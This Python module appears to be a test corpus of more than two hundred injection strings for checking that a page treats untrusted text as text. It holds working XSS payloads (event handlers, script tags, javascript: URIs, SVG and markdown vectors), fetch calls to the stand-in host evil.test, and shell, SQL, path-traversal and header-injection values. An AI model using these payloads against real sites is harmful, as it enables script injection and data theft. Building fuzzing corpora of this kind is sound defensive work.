"""Texts that would run a script, load something, or look like something else, if a page took them for more than text.

Each tells if it ran: it sets ``window.ran``, opens a dialog, or asks for something at ``evil.test``.
"""

from typing import Final

_RUN: Final = "window.ran=1;alert(1)"
_FETCH: Final = "fetch('http://evil.test/x')"

_HANDLERS: Final = (
    *(
        "<img src=x onerror={0}>",
        "<img src='http://evil.test/i'>",
        "<svg onload={0}>",
        "<svg/onload={0}//",
        "<body onload={0}>",
    ),
    *(
        "<details open ontoggle={0}>",
        "<video><source onerror={0}>",
        "<audio src=x onerror={0}>",
        "<input autofocus onfocus={0}>",
    ),
    *(
        "<select autofocus onfocus={0}>",
        "<textarea autofocus onfocus={0}>",
        "<marquee onstart={0}>",
        "<iframe onload={0}>",
    ),
    *(
        "<iframe srcdoc='<script>parent.{0}</script>'>",
        "<object data='javascript:{0}'>",
        "<embed src='javascript:{0}'>",
    ),
    *(
        "<a href='javascript:{0}' autofocus onfocus={0}>x</a>",
        "<form><button formaction='javascript:{0}'>x</button></form>",
    ),
    *(
        "<math><mi xlink:href='javascript:{0}'>",
        "<x onanimationstart={0} style='animation-name:a'>",
        "<p/onpointerenter={0}>x",
    ),
    *(
        "<template shadowrootmode=open><img src=x onerror={0}></template>",
        "<div hx-on:load='{0}'>",
        "<p onclick={0} popover>",
    ),
)
_SCRIPTS: Final = (
    *(
        "<script>{0}</script>",
        "</script><script>{0}</script>",
        "<ScRiPt>{0}</sCrIpT>",
        "<script src=//evil.test/s.js></script>",
    ),
    *(
        "<scr<script>ipt>{0}</script>",
        "<script\n>{0}</script\n>",
        "<script type=module>{0}</script>",
        "--><script>{0}</script>",
    ),
    *(
        "]]><script>{0}</script>",
        "</title><script>{0}</script>",
        "</textarea><script>{0}</script>",
        "</style><script>{0}</script>",
    ),
    *(
        "</noscript><script>{0}</script>",
        "</pre></code><script>{0}</script>",
        "'\"><script>{0}</script>",
        '\\"><script>{0}</script>',
    ),
    *(
        "&lt;script&gt;{0}&lt;/script&gt;",
        "&#60;script&#62;{0}&#60;/script&#62;",
        "\\u003cscript\\u003e{0}",
        "%3Cscript%3E{0}",
    ),
    *(
        "{{{{ 7*7 }}}} <script>{0}</script>",
        "{{% raw %}}<script>{0}</script>",
        "{{{{ config.__class__ }}}}",
        "${{{0}}}",
    ),
)
_ATTRIBUTES: Final = (
    *(
        '" onmouseover="{0}',
        "' onfocus='{0}' autofocus='",
        '" autofocus onfocus="{0}" x="',
        "` onload=`{0}",
        'x" style="x:y',
    ),
    *("\"/><base href='http://evil.test/'>", "\"><meta http-equiv=refresh content='0;url=http://evil.test/'>"),
    *('"><link rel=stylesheet href=http://evil.test/c.css>', '"><link rel=prefetch href=http://evil.test/p>'),
    *(
        '" hx-get="http://evil.test/" hx-trigger="load',
        '" hx-on::load="{0}',
        '" data-live-part hx-get="//evil.test/" hx-trigger="load',
    ),
    *(
        '" formaction="javascript:{0}',
        '" id="main" name="form_token',
        '" srcset="//evil.test/a 1x',
        '" ping="//evil.test/p',
    ),
)
_CSS: Final = (
    *(
        "<style>body{{display:none}}</style>",
        "<style>@import 'http://evil.test/c';</style>",
        "<div style='background:url(http://evil.test/b)'>",
    ),
    *(
        "</style><style>*{{color:red}}",
        "<link rel=stylesheet href='data:text/css,*{{display:none}}'>",
        "x;}}body{{background:url(//evil.test/)}}",
    ),
    *(
        "expression({0})",
        "url('javascript:{0}')",
        "<svg><style><img src=x onerror={0}></style></svg>",
        "@font-face{{src:url(//evil.test/f)}}",
    ),
)
_SVG: Final = (
    *(
        "<svg><script>{0}</script></svg>",
        "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>",
        "<svg><animate onbegin={0} attributeName=x>",
    ),
    *(
        "<svg><set attributeName=href to='javascript:{0}'>",
        "<svg><use href='http://evil.test/u#x'>",
        "<svg><image href='http://evil.test/i'>",
    ),
    *(
        "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
        "<svg><desc><![CDATA[</desc><script>{0}</script>]]></svg>",
    ),
    *(
        "</svg><script>{0}</script>",
        "<svg><style>@import '//evil.test/'</style></svg>",
        "</text></g></svg><img src=x onerror={0}>",
    ),
)
_MARKDOWN: Final = (
    *(
        "[x](javascript:{0})",
        "[x](JaVaScRiPt:{0})",
        "[x](java\tscript:{0})",
        "[x](data:text/html,<script>{0}</script>)",
        "[x](vbscript:{0})",
    ),
    *(
        "![x](http://evil.test/i.png)",
        "![x](javascript:{0})",
        "<javascript:{0}>",
        "<http://evil.test/?{0}>",
        "[x]: javascript:{0}\n\n[x]",
    ),
    *(
        "[x](//evil.test/)",
        '[x](http://evil.test/ "onmouseover={0}")',
        "`<script>{0}</script>`",
        "    <script>{0}</script>",
        "[x](<javascript:{0}>)",
    ),
    *(
        "# <img src=x onerror={0}>",
        "| a |\n|---|\n| <img src=x onerror={0}> |",
        "* <svg onload={0}>",
        "> <iframe srcdoc='<script>{0}</script>'>",
    ),
    *(
        "[![x](http://evil.test/i)](javascript:{0})",
        "[x](&#106;avascript:{0})",
        "[x](file:///etc/passwd)",
        "[x](blob:{0})",
        "[x](\x01javascript:{0})",
    ),
)
_SCHEMES: Final = (
    *(
        "javascript:{0}",
        "JAVASCRIPT:{0}",
        "java\nscript:{0}",
        "\x01javascript:{0}",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    *(
        "vbscript:{0}",
        "//evil.test/",
        "/\\evil.test/",
        "http://evil.test/",
        "http:evil.test",
        "view-source:http://evil.test/",
        "blob:null/{0}",
    ),
)
_CHARACTERS: Final = (
    *(
        "\u202etxt.exe\u202c",
        "\u2066a\u2069\u202eb",
        "\u200f\u200eright",
        "a\u0000b",
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;http://evil.test\x07x\x1b]8;;\x07",
    ),
    *(
        "\x7f\x80\x9f",
        "a\r\nSet-Cookie: x=1",
        "a\u2028b\u2029c",
        "\ufeffa",
        "\ufffe\uffff",
        "\U000e0001\U000e0061",
        "a\u0301" * 50,
        "\u200b" * 40 + "x",
    ),
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\u0430\u0440\u0440le",
        "ﷺ" * 20,
        "\t\v\f",
        "W" * 400,
        "\ud7ff\ue000",
        "&amp;lt;b&amp;gt;",
        "&nbsp;&#0;&#x202e;",
    ),
)
_PLAIN: Final = (
    *(
        "../../etc/passwd",
        "%2e%2e%2f",
        "CON",
        "?x=1#y",
        "a&b=c;d",
        "'; DROP TABLE turn; --",
        "$(id)",
        "`id`",
        "|id",
        "<!--",
        "-->",
        "<![CDATA[",
    ),
    *(
        "<",
        ">",
        '"',
        "'",
        "&",
        "<>",
        "</",
        "<a",
        "</main>",
        "</body></html>",
        "<plaintext>",
        "<base target=_top>",
        "<frameset>",
        "<xmp>",
    ),
)


def _filled(pattern: str, code: str) -> str:
    return pattern.format(code)


PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            _filled(pattern, code)
            for patterns in (_HANDLERS, _SCRIPTS, _ATTRIBUTES, _CSS, _SVG, _MARKDOWN, _SCHEMES)
            for pattern in patterns
            for code in ((_RUN, _FETCH) if patterns in (_HANDLERS, _SCRIPTS) else (_RUN,))
        ]
        + [*_CHARACTERS, *_PLAIN]
    )
)
"""More than two hundred."""
